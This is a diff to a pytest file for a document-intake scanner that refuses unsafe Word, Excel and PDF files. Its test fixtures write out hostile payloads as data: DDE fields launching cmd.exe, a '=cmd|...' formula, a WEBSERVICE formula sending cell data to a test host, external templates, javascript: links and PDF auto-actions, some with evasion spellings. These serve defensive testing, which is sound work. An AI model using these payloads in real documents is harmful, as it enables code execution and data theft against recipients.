@@ -2,13 +2,17 @@
 
 import zipfile
 from collections.abc import Callable
+from datetime import datetime
 from pathlib import Path
 
+import openpyxl
 import pytest
 from PIL import Image
 
+from kpi import handover
 from kpi.documents.media import MEDIA, DocumentRefused, examine, packages
 from kpi.documents.suffixes import find_suffix
+from kpi.handover.xlsx_writer import ChartSeries, WorkbookChart, open_book
 from tests.kpi import papers
 from tracker.sandbox import Limits
 
@@ -119,7 +123,6 @@ def test_a_web_page_is_refused(tmp_path: Path):
     [
         "word/vbaProject.bin",
         "word/activeX/activeX1.xml",
-        "word/embeddings/oleObject1.bin",
         "xl/macrosheets/s.xml",
     ],
 )
@@ -141,6 +144,167 @@ def test_an_office_file_with_a_template_elsewhere_is_refused(tmp_path: Path):
     )
     path = papers.with_part(papers.word(tmp_path), "word/_rels/settings.xml.rels", rels)
     assert "外部模板" in refusal(path)
+
+
+TEMPLATE = (
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    '<Relationship Id="r1" TargetMode="External" Target="http://x.test/t.dotm"'
+    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
+    "</Relationships>"
+)
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("word/_rels/settings.xml.rels", TEMPLATE.encode("utf-16")),
+        (
+            "word/_rels/settings.xml.rels",
+            f'<?xml version="1.0" encoding="UTF-16"?>{TEMPLATE}'.encode("utf-16"),
+        ),
+        ("word/_rels/settings.xml.RELS", TEMPLATE.encode()),
+        ("word/_rels/settings.xml.rels", TEMPLATE.replace("External", "&#69;xternal").encode()),
+        ("word/_rels/settings.xml.rels", TEMPLATE.replace("<Relationship ", "<p:Relationship ").encode()),
+    ],
+    ids=["utf-16", "utf-16 declared", "upper case", "character reference", "prefix"],
+)
+def test_no_spelling_hides_a_template_elsewhere(name: str, content: bytes, tmp_path: Path):
+    content = content.replace(b"<Relationships xmlns=", b"<Relationships xmlns:p='urn:p' xmlns=")
+    assert "外部模板" in refusal(papers.with_part(papers.word(tmp_path), name, content))
+
+
+@pytest.mark.parametrize(
+    ("kind", "target", "word"),
+    [
+        ("image", "//x.test/a.png", "外面的文件"),
+        ("hyperlink", "javascript:alert(1)", "外面的文件"),
+        ("externalLinkPath", "a.xlsx", "外面的文件"),
+        ("oleObject", "a.bin", "嵌有"),
+        ("aFChunk", "a.html", "嵌有"),
+    ],
+)
+def test_only_links_that_are_clicked_on_lead_out_of_a_document(
+    kind: str, target: str, word: str, tmp_path: Path
+):
+    rels = TEMPLATE.replace("attachedTemplate", kind).replace("http://x.test/t.dotm", target)
+    assert word in refusal(papers.with_part(papers.word(tmp_path), "word/_rels/a.xml.rels", rels))
+
+
+def test_a_relationship_that_nobody_knows_is_refused(tmp_path: Path):
+    rels = TEMPLATE.replace("attachedTemplate", "somethingNew").replace("External", "Internal")
+    path = papers.with_part(papers.word(tmp_path), "word/_rels/a.xml.rels", rels)
+    assert "不认识的部件" in refusal(path)
+
+
+def test_links_of_a_document_are_taken(tmp_path: Path):
+    rels = TEMPLATE.replace("attachedTemplate", "hyperlink")
+    path = papers.with_part(papers.word(tmp_path), "word/_rels/a.xml.rels", rels)
+    assert found(path) == (OFFICE + "wordprocessingml.document", None)
+
+
+@pytest.mark.parametrize(
+    ("content_type", "word"),
+    [
+        ("application/vnd.openxmlformats-officedocument.oleObject", "嵌有"),
+        ("application/vnd.ms-office.vbaProject", "宏"),
+        ("application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml", "外面的文件"),
+        ("application/x-new", "不认识的部件（application/x-new）"),
+    ],
+)
+def test_a_part_of_another_type_is_refused_whatever_its_name(content_type: str, word: str, tmp_path: Path):
+    assert word in refusal(papers.with_type(papers.word(tmp_path), "word/media/a.png", content_type))
+
+
+def test_an_embedded_file_is_refused(tmp_path: Path):
+    path = papers.with_part(papers.word(tmp_path), "word/embeddings/oleObject1.bin")
+    assert "嵌有" in refusal(path)
+
+
+def _field(*runs: str) -> str:
+    """A paragraph with one field, its code in that many runs."""
+    codes = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
+    kinds = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")]
+    return f"<w:p>{kinds[0]}{codes}{kinds[1]}<w:r><w:t>1</w:t></w:r>{kinds[2]}</w:p>"
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        _field(' DDEAUTO c:\\\\cmd.exe "/k calc" '),
+        _field(" DD", "E", 'AUTO c:\\\\cmd.exe "/k calc" '),
+        _field(" &#68;DE x y"),
+        '<w:p><w:fldSimple w:instr=" dde x y"/></w:p>',
+        _field(' INCLUDETEXT "http://x.test/a.docx" '),
+        _field("{}").replace("<w:instrText>{}</w:instrText>", "").replace(
+            '"begin"/></w:r>', '"begin"/></w:r>' + _field(" QUOTE 68 68 69 ")[5:-6], 1
+        ),
+    ],
+    ids=["whole", "in three runs", "character reference", "simple", "included text", "put together"],
+)  # fmt: skip
+def test_a_field_that_calls_a_program_or_reads_a_file_is_refused(body: str, tmp_path: Path):
+    assert "域" in refusal(papers.with_body(tmp_path, body))
+
+
+def test_fields_of_every_day_are_taken(tmp_path: Path):
+    body = _field(" PAGE", "\\* MERGEFORMAT ") + _field("=SUM(ABOVE)") + _field(' HYPERLINK "http://x.test" ')
+    assert found(papers.with_body(tmp_path, body)) == (OFFICE + "wordprocessingml.document", None)
+
+
+@pytest.mark.parametrize(
+    ("formula", "taken"),
+    [
+        ("=cmd|'/c calc'!A0", False),
+        ('=WEBSERVICE("http://x.test/"&A1)', False),
+        ("=SUM(A1:A9)", True),
+        ('=IF(A1="a|b",1,2)', True),
+    ],
+)
+def test_a_formula_that_leaves_the_sheet_is_refused(formula: str, taken: bool, tmp_path: Path):
+    book = openpyxl.Workbook()
+    book.active["B1"] = formula
+    book.save(tmp_path / "a.xlsx")
+    if taken:
+        assert found(tmp_path / "a.xlsx") == (OFFICE + "spreadsheetml.sheet", None)
+    else:
+        assert "公式" in refusal(tmp_path / "a.xlsx")
+
+
+def test_documents_of_our_own_are_taken(tmp_path: Path):
+    with open_book(tmp_path / "a.xlsx", "表", datetime(2024, 1, 1)) as book:
+        book.sheet("数", ("列",), [["文"], [1]])
+        book.charts("图", [WorkbookChart("line", "图", "次", (ChartSeries("一", "=数!$A$2", "=数!$A$3"),))])
+    assert found(tmp_path / "a.xlsx") == (OFFICE + "spreadsheetml.sheet", None)
+    for template in (Path(handover.__file__).parent / "templates").glob("*.docx"):
+        assert found(template) == (OFFICE + "wordprocessingml.document", None), template.name
+
+
+def test_a_pdf_with_a_file_in_it_is_refused(tmp_path: Path):
+    assert "附件" in refusal(papers.attached_pdf(tmp_path))
+
+
+@pytest.mark.parametrize(
+    ("key", "action", "word"),
+    [
+        ("/OpenAction", {"/S": "/URI", "/URI": "http://x.test"}, "一打开"),
+        ("/OpenAction", {"/S": "/GoTo", "/Next": {"/S": "/GoToR", "/F": "x"}}, "一打开"),
+        ("/AA", {"/WC": {"/S": "/URI", "/URI": "http://x.test"}}, "一打开"),
+        ("/A", {"/S": "/URI", "/URI": "java\nscript:alert(1)"}, "脚本"),
+        ("/A", {"/S": "/SubmitForm", "/F": "http://x.test"}, "脚本"),
+        ("/A", {"/S": "/SomethingNew"}, "脚本"),
+    ],
+)
+def test_what_a_pdf_does_is_known(key: str, action: dict[str, object], word: str, tmp_path: Path):
+    assert word in refusal(papers.acting_pdf(tmp_path, key, action))
+
+
+def test_the_kind_of_an_action_is_found_where_it_stands(tmp_path: Path):
+    action: dict[str, object] = {"/S": "/GoToE"}
+    assert "脚本" in refusal(papers.acting_pdf(tmp_path, "/A", action, indirect=True))
+
+
+def test_a_pdf_with_links_and_a_first_page_is_taken(tmp_path: Path):
+    for key, action in (("/A", {"/S": "/URI", "/URI": "https://x.test"}), ("/OpenAction", {"/S": "/GoTo"})):
+        assert found(papers.acting_pdf(tmp_path, key, action)) == ("application/pdf", 1)
 
 
 def test_xml_entities_are_refused(tmp_path: Path):
